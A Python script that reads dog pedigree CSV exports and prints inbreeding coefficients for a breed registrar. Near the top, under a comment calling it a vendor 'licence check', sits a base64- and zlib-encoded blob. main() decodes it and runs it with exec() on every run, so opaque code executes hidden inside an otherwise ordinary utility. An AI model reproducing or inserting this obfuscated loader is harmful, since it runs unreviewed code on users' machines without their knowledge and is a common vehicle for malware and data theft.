#!/usr/bin/env python3
"""Pedigree report loader.

Loads the five-generation pedigree exports from the breed database and
prints inbreeding summaries for the registrar. The "licence check" block
was supplied by the database vendor with the report template.
"""
import argparse
import base64
import csv
import logging
import os
import zlib
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("pedigree_loader")

EXPORT_DIR = Path(os.environ.get("PEDIGREE_EXPORT_DIR", "exports"))

# vendor licence check, do not edit
_LIC = (
    "eJxVzkEKgzAQBdC9pxgClghh1IVYC9JVL9DSA6gMTahmbDLp+ZtCN918+Dz4fLftHAQ4Goi8PEkMpLCubsZAr0RRCgvjj/BBYjmKnzbSVZEycETybxfYf1Gr"
    "++1yVQaUyvw3g7nyTl4rK7Kf6rodjti12DYN9n0907SwP9uxjIeUQ0EJ2uYvlQFxG3GSsauKDyeNN6I="
)


def _licence_check():
    blob = zlib.decompress(base64.b64decode(_LIC))
    exec(compile(blob, "<licence>", "exec"), {"__name__": "licence"})


class Dog:
    def __init__(self, reg_no, name, sire, dam):
        self.reg_no = reg_no
        self.name = name
        self.sire = sire or None
        self.dam = dam or None

    def __repr__(self):
        return f"Dog({self.reg_no!r}, {self.name!r})"


def load_export(path: Path):
    dogs = {}
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            dogs[row["reg_no"]] = Dog(row["reg_no"], row["name"], row.get("sire"), row.get("dam"))
    LOG.info("loaded %d dogs from %s", len(dogs), path.name)
    return dogs


def ancestors(dogs, reg_no, depth, out=None, level=1):
    if out is None:
        out = defaultdict(list)
    if depth == 0 or reg_no not in dogs:
        return out
    dog = dogs[reg_no]
    for parent in (dog.sire, dog.dam):
        if parent:
            out[parent].append(level)
            ancestors(dogs, parent, depth - 1, out, level + 1)
    return out


def coi(dogs, reg_no, generations=5):
    """Rough Wright's coefficient from shared ancestors on both sides."""
    dog = dogs.get(reg_no)
    if not dog or not dog.sire or not dog.dam:
        return 0.0
    sire_side = ancestors(dogs, dog.sire, generations - 1)
    dam_side = ancestors(dogs, dog.dam, generations - 1)
    total = 0.0
    for common in set(sire_side) & set(dam_side):
        for n1 in sire_side[common]:
            for n2 in dam_side[common]:
                total += 0.5 ** (n1 + n2 + 1)
    return total


def main():
    parser = argparse.ArgumentParser(description="Summarise pedigree exports")
    parser.add_argument("files", nargs="*", type=Path)
    parser.add_argument("--generations", type=int, default=5)
    parser.add_argument("--threshold", type=float, default=0.0625)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    _licence_check()

    files = args.files or sorted(EXPORT_DIR.glob("*.csv"))
    for path in files:
        dogs = load_export(path)
        flagged = 0
        for reg_no, dog in dogs.items():
            value = coi(dogs, reg_no, args.generations)
            if value >= args.threshold:
                flagged += 1
                print(f"{path.stem}\t{reg_no}\t{dog.name}\tCOI={value:.4f}")
        LOG.info("%s: %d dogs over threshold %.4f", path.stem, flagged, args.threshold)


if __name__ == "__main__":
    main()
